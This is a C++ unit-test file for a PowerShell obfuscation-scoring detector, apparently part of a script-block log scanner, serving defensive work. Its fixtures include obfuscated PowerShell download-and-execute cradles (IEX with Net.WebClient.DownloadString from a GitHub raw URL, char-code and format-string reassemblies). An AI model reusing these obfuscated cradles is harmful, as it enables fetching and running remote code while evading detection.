#include "decoders/obfuscation_score.h"

#include <cstdio>
#include <filesystem>
#include <random>
#include <string>

#include "gtest/gtest.h"

namespace sbscan::decoders {
namespace {

double S(std::string_view t) { return Score(ComputeObfuscationFeatures(t)); }

const char kBenign[] =
    "function Get-Inventory {\n"
    "    param([string]$ComputerName = $env:COMPUTERNAME)\n"
    "    # Collect installed software from the registry.\n"
    "    $items = Get-ChildItem -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall'\n"
    "    foreach ($item in $items) { Write-Verbose \"Found $($item.Name)\" }\n"
    "    return $items | Sort-Object -Property DisplayName\n"
    "}\n";

TEST(ObfuscationScoreTest, FeaturesOnePass) {
  const ObfuscationFeatures f = ComputeObfuscationFeatures(
      "I`nv`oke-Ex`pression ('Down'+'load'+'String') \"{1}{0}\" -f 'a','b' [char]65");
  EXPECT_EQ(f.length, 74u);
  EXPECT_GT(f.backtick_density, 30);
  EXPECT_GT(f.concat_density, 20);
  EXPECT_GT(f.format_density, 20);
  EXPECT_GT(f.char_cast_density, 10);
  EXPECT_GT(f.string_ratio, 0.2);
  EXPECT_EQ(ComputeObfuscationFeatures("").length, 0u);
  EXPECT_EQ(S(""), 0);
  const ObfuscationFeatures b = ComputeObfuscationFeatures(kBenign);
  EXPECT_EQ(b.lines, 8u);
  EXPECT_LT(b.case_flip_ratio, 0.06);
  EXPECT_GT(b.entropy, 4.0);
}

TEST(ObfuscationScoreTest, SeparatesObfuscatedFromBenign) {
  EXPECT_LT(S(kBenign), kObfuscationThreshold);
  for (const char* t : {
           "iNVOkE-expRessION (( [RUNTiMe.inTEROPsErVices.MARsHaL]::ptrTOsTRINgautO( [runTIME.IntErOPsERvIceS.MarSHAL]::SEcureSTRIngtObsTr($x)))",
           "(('IEX ('+'New'+'-Object'+' Net.Web'+'Client'+')'+'.DownloadString(oH'+'4http'+'s:'+'//raw'+'.g'+'it'+'hubuse'+'rcontent.c'+'om/m'+'at'+'tifes') -REpLacE 'oH4',[cHaR]39)| IEx",
           "((\"{4}{1}{3}{0}{2}\" -f 'ring(','EX (New-Object Net.WebClient).Do','x)','wnloadSt','I'))| IEX",
           "iex([CHar]73+[CHar]69+[CHar]88+[CHar]32+[CHar]40+[CHar]78+[CHar]101+[CHar]119+[CHar]45+[CHar]79+[CHar]98+[CHar]106)",
           "& ( $eNv:COmSPEc[4,15,25]-JoIN'') ([ChAr[]] (73, 69 , 88 ,32 ,40,78 ,101 ,119 ,45, 79, 98,106 ,101,99 , 116 ,32 ,78,101, 116, 46,87, 101 ,98 , 67 ,108 ,105,101 ,110, 116 ,41) -jOIn'')",
           "${=}  =+  $(  );  ${-#}  =${=}  ;${]!}  =++${=}  ;${*}  =++${=}  ;${(@}  =  ++${=}  ;${+=}=++  ${=};  ${%}  =  ++  ${=}",
       }) {
    EXPECT_GE(S(t), kObfuscationThreshold) << t;
  }
}

// Every vector path the CPU has (AVX2, AVX-512) and the scalar reference agree
// exactly on every feature: all lengths 0..300 around the 64-byte blocks,
// random bytes, random text from the interesting characters, and real
// script text at every offset and length. Without the entropy, both paths
// give the same features but `entropy` (0), and ByteEntropy gives exactly the
// entropy of the full pass.
void ExpectSame(std::string_view t) {
  const ObfuscationFeatures b = ComputeObfuscationFeaturesScalar(t);
  EXPECT_TRUE(ComputeObfuscationFeatures(t) == b);
  for (SimdPath path : kSimdPaths) {
    if (!SimdPathSupported(path)) continue;
    const ObfuscationFeatures a = ComputeObfuscationFeaturesWith(path, t);
    ASSERT_TRUE(a == b) << SimdPathName(path) << ", length " << t.size() << ": " << t;
    for (ObfuscationFeatures c :
         {ComputeObfuscationFeaturesWith(path, t, EntropyPass::kWithoutEntropy),
          ComputeObfuscationFeaturesScalar(t, EntropyPass::kWithoutEntropy)}) {
      ASSERT_EQ(c.entropy, 0) << SimdPathName(path) << ", length " << t.size();
      c.entropy = ByteEntropy(t);
      ASSERT_TRUE(c == b) << SimdPathName(path) << ", length " << t.size() << ": " << t;
    }
  }
}

TEST(ObfuscationScoreTest, ByteEntropy) {
  EXPECT_EQ(ByteEntropy(""), 0);
  EXPECT_EQ(ByteEntropy("aaaaaaa"), 0);
  EXPECT_DOUBLE_EQ(ByteEntropy("abab"), 1);
  EXPECT_DOUBLE_EQ(ByteEntropy("abcd"), 2);
  std::string all;
  for (int b = 0; b < 256; ++b) all += static_cast<char>(b);
  EXPECT_DOUBLE_EQ(ByteEntropy(all), 8);
  EXPECT_DOUBLE_EQ(ByteEntropy(all + all + all), 8);
  // 3 of one byte, 1 of another: -(3/4 log2 3/4 + 1/4 log2 1/4).
  EXPECT_NEAR(ByteEntropy("xxxy"), 0.8112781244591328, 1e-12);
}

TEST(ObfuscationScoreTest, VectorPathMatchesScalar) {
  std::printf("paths compared with scalar: up to %s\n",
              std::string(SimdPathName(ActiveSimdPath())).c_str());
  std::mt19937 rng(42);
  const std::string alphabet =
      "aAbBcChHrRzZ09 \t\r\n'\"`{}[],+-$();|@#=%^&*\\/.:\x01\x7f\x80\xff";
  for (int round = 0; round < 4000; ++round) {
    const size_t len = round < 300 ? round : rng() % 700;
    std::string t(len, ' ');
    const int mode = round % 3;
    for (char& ch : t) {
      ch = mode == 0 ? static_cast<char>(rng())
                     : alphabet[rng() % alphabet.size()];
    }
    if (mode == 2) {  // long runs: tokens, punctuation, spaces over blocks
      for (size_t k = 0; k + 1 < len; k += 1 + rng() % 150) {
        const char fill = "x! \n"[rng() % 4];
        const size_t run = std::min(len - k, size_t(1 + rng() % 140));
        std::fill_n(t.begin() + k, run, fill);
      }
    }
    ASSERT_NO_FATAL_FAILURE(ExpectSame(t));
  }
  std::string real;
  for (int k = 0; k < 6; ++k) real += kBenign;
  real += "I`nv`oke-Ex`pression ('Down'+'load'+'String') \"{1}{0}\" -f 'a','b' [char]65 (73, 69 ,88) [CHAR]";
  for (size_t at = 0; at < 70; ++at) {
    for (size_t len = 0; at + len <= real.size(); len += 1 + len / 16) {
      ASSERT_NO_FATAL_FAILURE(ExpectSame(std::string_view(real).substr(at, len)));
    }
  }
  for (size_t len = 0; len < 200; ++len) {
    ASSERT_NO_FATAL_FAILURE(ExpectSame(std::string(len, 'Q')));
    ASSERT_NO_FATAL_FAILURE(ExpectSame(std::string(len, '$')));
    ASSERT_NO_FATAL_FAILURE(ExpectSame(std::string(len, '\n')));
  }
}

TEST(ObfuscationScoreTest, ShortTextsAreDamped) {
  EXPECT_LT(S("I`E`X"), kObfuscationThreshold);
}

// False positives on benign generated text: every ScriptBlockText (fragment)
// of `sbscan-gen --seed 7 --blocks 2000 --malicious-ratio 0`, when the
// generator was built in this build tree.
TEST(ObfuscationScoreTest, BenignGeneratedFalsePositiveRate) {
  const std::string gen = std::string(SBSCAN_BINARY_DIR) + "/tools/sbscan-gen";
  if (!std::filesystem::exists(gen)) GTEST_SKIP() << "no " << gen;
  FILE* p = popen((gen + " --seed 7 --blocks 2000 --malicious-ratio 0").c_str(), "r");
  ASSERT_NE(p, nullptr);
  std::string data;
  char buf[65536];
  size_t n;
  while ((n = fread(buf, 1, sizeof buf, p)) > 0) data.append(buf, n);
  pclose(p);
  size_t blocks = 0, hits = 0;
  const std::string key = "\"ScriptBlockText\":\"";
  for (size_t at = data.find(key); at != std::string::npos;
       at = data.find(key, at + 1)) {
    std::string text;
    size_t i = at + key.size();
    for (; i < data.size() && data[i] != '"'; ++i) {
      if (data[i] == '\\' && i + 1 < data.size()) {
        const char e = data[++i];
        text += e == 'n' ? '\n' : e == 'r' ? '\r' : e == 't' ? '\t' : e;
        if (e == 'u') i += 4;
        continue;
      }
      text += data[i];
    }
    ++blocks;
    hits += S(text) >= kObfuscationThreshold;
    EXPECT_TRUE(ComputeObfuscationFeatures(text) == ComputeObfuscationFeaturesScalar(text));
  }
  std::printf("benign generated: %zu / %zu fragments >= %.2f\n", hits, blocks,
              kObfuscationThreshold);
  ASSERT_GT(blocks, 1000u);
  EXPECT_LE(hits * 100, blocks);  // <= 1%
}

}  // namespace
}  // namespace sbscan::decoders
